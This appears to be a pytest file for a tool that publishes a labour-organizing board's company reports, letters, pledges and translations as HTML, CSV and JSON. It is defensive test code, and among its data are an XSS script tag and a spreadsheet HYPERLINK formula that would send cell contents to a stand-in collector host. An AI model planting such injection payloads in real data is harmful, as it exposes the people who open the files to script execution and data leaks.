"""`dazibao publish` carries the collective-action objects (docs/mirror.md, docs/organizing.md):
a ranked company list and a page per company, letters with their signers, pledges with their
progress, the pinned posts of a board and translations beside their originals, each row with the
id of its signed post; and the journalists' CSV and JSON, which are `dazibao report companies
--csv`'s rows.  Real processes and a real store; the copy in English and in Chinese."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest

from dazibao.node.config import DataDir
from dazibao.node.publish import publish
from dazibao.protocol import identity, limits, moderation, organizing, posts

from ..node.procs import dazibao
from .helpers import key, now_ms, store_with

BOARD = "labor"
SCRIPT = "<script>alert(1)</script>"


def _fp(n: int) -> str:
    return identity.fingerprint(key(n).public_key)


@pytest.fixture(scope="module")
def node(tmp_path_factory) -> tuple[Path, dict[str, str]]:
    """A node that follows key(0) as a moderator of the board, which vouches for key(1)."""
    path = tmp_path_factory.mktemp("organizing") / "node"
    data = DataDir(path)
    data.create()
    t = now_ms() - 600_000
    guide = posts.create_post(key(0), kind="post", board=BOARD, created_at_ms=t, body="Labour Law, article 41")
    report = organizing.create_report(key(1), board=BOARD, company="Example Tech", practice="unpaid_overtime",
                                      city="Hangzhou", period="2026-01..2026-06", created_at_ms=t + 1,
                                      text=f"Told to stay until ten. {SCRIPT}")
    other = organizing.create_report(key(3), board=BOARD, company="Other Co", practice="no_contract",
                                     created_at_ms=t + 2, text="No contract.")
    letter = organizing.create_letter(key(0), board=BOARD, title="To the labor bureau", created_at_ms=t + 3,
                                      text="Enforce article 41.")
    pledge = organizing.create_pledge(key(2), board=BOARD, action="Leave at six", date="2027-03-01",
                                      threshold=2, created_at_ms=t + 4)
    items = [
        guide, report, other, letter, pledge,
        moderation.create_statement(key(0), board=BOARD, action="vouch", subject="author",
                                    target=key(1).public_key, reason="trusted", created_at_ms=t + 5),
        organizing.create_corroboration(key(2), report, created_at_ms=t + 6, text="Same on my team."),
        organizing.create_signature(key(1), letter, created_at_ms=t + 7, line="engineer, Seattle"),
        organizing.create_signature(key(2), letter, created_at_ms=t + 8),
        organizing.create_signature(key(1), pledge, created_at_ms=t + 9),
        organizing.create_signature(key(3), pledge, created_at_ms=t + 10),
        organizing.create_pin(key(0), guide, created_at_ms=t + 11),
        organizing.create_pin(key(3), report_post := posts.create_post(
            key(3), kind="post", board=BOARD, created_at_ms=t + 12, body="A stranger's post"), created_at_ms=t + 13),
        report_post,
        organizing.create_translation(key(2), guide, lang="zh-Hans", text="《劳动法》第四十一条",
                                      created_at_ms=t + 14),
    ]
    store = store_with(data.database, items)
    store.add_moderator(BOARD, key(0).public_key, source="cli", now_ms=now_ms())
    store.close()
    ids = {"guide": guide.id.hex(), "report": report.id.hex(), "letter": letter.id.hex(),
           "pledge": pledge.id.hex(), "stranger": report_post.id.hex()}
    return path, ids


def _read(site: Path, pattern: str) -> str:
    (page,) = site.glob(pattern)
    return page.read_text(encoding="utf-8")


def test_the_copy_holds_companies_letters_pledges_pins_and_translations(node, tmp_path):
    path, ids = node
    site = tmp_path / "site"
    dazibao(path, "publish", "--board", BOARD, "--out", str(site))
    board = _read(site, "board-*.html")
    assert re.search(r'href="companies-labor-[0-9a-f]{10}\.html"', board)
    assert re.search(r'href="letters-labor-[0-9a-f]{10}\.html"', board)
    # The followed moderator's pin is at the top; a stranger's pin counts for nothing.
    pinned = board.split('<section class="pinned">')[1].split("</section>")[0]
    assert ids["guide"] in pinned and "Labour Law, article 41" in pinned and ids["stranger"] not in pinned

    companies = _read(site, "companies-*.html")
    assert companies.index("Example Tech") < companies.index("Other Co")  # ranked by vouched pseudonyms
    assert "2 pseudonyms · <strong>1 vouched</strong>" in companies
    assert "the moderators this node follows" in companies
    company = next(p.read_text(encoding="utf-8") for p in site.glob("company-*.html")
                   if "Example Tech" in p.read_text(encoding="utf-8"))
    assert ids["report"] in company and "Same on my team." in company and "Hangzhou" in company
    assert "<script>" not in company and "&lt;script&gt;alert(1)&lt;/script&gt;" in company
    assert _fp(1) in company

    letter = (site / f"letter-{ids['letter']}.html").read_text(encoding="utf-8")
    assert "To the labor bureau" in letter and "2 signatures · <strong>1 vouched</strong>" in letter
    assert "engineer, Seattle" in letter and _fp(2) in letter
    pledge = (site / f"pledge-{ids['pledge']}.html").read_text(encoding="utf-8")
    assert "2 of 2 others · <strong>1 vouched</strong>" in pledge
    assert "Met, but not yet by vouched pseudonyms." in pledge
    letters = _read(site, "letters-*.html")
    assert ids["letter"] in letters and ids["pledge"] in letters

    thread = (site / f"thread-{ids['guide']}.html").read_text(encoding="utf-8")
    assert '<article class="translation" lang="zh-Hans">' in thread and "《劳动法》第四十一条" in thread

    # The journalists' files: the same rows as `dazibao report companies --csv` on the node.
    published_csv = _read(site, "companies-*.csv")
    cli_csv = dazibao(path, "report", "companies", BOARD, "--csv").stdout.replace("\r\n", "\n")
    assert published_csv == cli_csv
    rows = list(csv.DictReader(io.StringIO(published_csv)))
    assert [(r["company"], r["vouched"], r["fingerprint"], r["post_id"]) for r in rows] == [
        ("Example Tech", "yes", _fp(1), ids["report"]), ("Other Co", "no", _fp(3), rows[1]["post_id"])]
    doc = json.loads(_read(site, "companies-*.json"))
    assert doc["board"] == BOARD and doc["complete"] is True
    assert [(c["company"], c["pseudonyms"], c["vouched"]) for c in doc["companies"]] == [
        ("Example Tech", 2, 1), ("Other Co", 1, 0)]
    assert doc["companies"][0]["report_rows"][0]["id"] == ids["report"]

    # The manifest names every new file, so that publishing again keeps and removes them rightly.
    manifest = json.loads((site / ".dazibao-publish.json").read_text(encoding="utf-8"))
    assert {p.name for p in site.iterdir() if not p.name.startswith(".")} == set(manifest["files"])


def test_the_collective_action_pages_in_chinese(node, tmp_path):
    path, ids = node
    site = tmp_path / "site"
    dazibao(path, "publish", "--board", BOARD, "--out", str(site), "--lang", "zh")
    companies = _read(site, "companies-*.html")
    assert '<html lang="zh-Hans">' in companies
    assert "公司报告" in companies and "2 个化名 · <strong>1 个经过担保</strong>" in companies
    assert "Company reports" not in companies
    pledge = (site / f"pledge-{ids['pledge']}.html").read_text(encoding="utf-8")
    assert "已达成，但经过担保的化名还不够。" in pledge


def test_a_flooded_board_gets_a_bounded_number_of_pages(tmp_path, monkeypatch):
    """Past ``publish_organizing_pages`` the copy gives pages to the highest-ranked companies
    and the newest letters only, says so, and still lists every report in the CSV."""
    monkeypatch.setattr(limits, "PUBLISH_ORGANIZING_PAGES", 1)
    t = now_ms() - 60_000
    first = organizing.create_report(key(1), board=BOARD, company="A Co", practice="other", created_at_ms=t)
    items = [
        first, organizing.create_corroboration(key(2), first, created_at_ms=t + 1),
        organizing.create_report(key(3), board=BOARD, company="B Co", practice="other", created_at_ms=t + 2),
        organizing.create_letter(key(1), board=BOARD, title="An older letter", created_at_ms=t + 3, text="Old."),
        organizing.create_letter(key(2), board=BOARD, title="A newer letter", created_at_ms=t + 4, text="New."),
    ]
    store = store_with(tmp_path / "store.sqlite", items)
    site = tmp_path / "site"
    try:
        publish(store, site, [BOARD], now_ms=now_ms())
    finally:
        store.close()
    (company,) = site.glob("company-*.html")
    assert "A Co" in company.read_text(encoding="utf-8")  # two pseudonyms rank it first
    assert "1 more companies are not listed here" in _read(site, "companies-*.html")
    assert len(_read(site, "companies-*.csv").splitlines()) == 3  # the header and both reports
    letters = _read(site, "letters-*.html")
    assert "A newer letter" in letters and "An older letter" not in letters
    assert "Only the newest 1 are listed here; the bundle holds the 1 older ones." in letters


def test_a_formula_in_a_report_stays_text_in_the_csv(tmp_path):
    """A company name that a spreadsheet would run (and that could fetch an address when a
    journalist opens the file) is written as text in the CSV, and as signed in the JSON."""
    formula = '=HYPERLINK("http://collector.test/?"&A1,"Example")'
    report = organizing.create_report(key(1), board=BOARD, company=formula, practice="other", city="-Hangzhou",
                                      created_at_ms=now_ms() - 60_000)
    store = store_with(tmp_path / "store.sqlite", [report])
    site = tmp_path / "site"
    try:
        publish(store, site, [BOARD], now_ms=now_ms())
    finally:
        store.close()
    (row,) = csv.DictReader(io.StringIO(_read(site, "companies-*.csv")))
    assert row["company"] == "'" + formula and row["city"] == "'-Hangzhou" and row["post_id"] == report.id.hex()
    assert json.loads(_read(site, "companies-*.json"))["companies"][0]["report_rows"][0]["company"] == formula
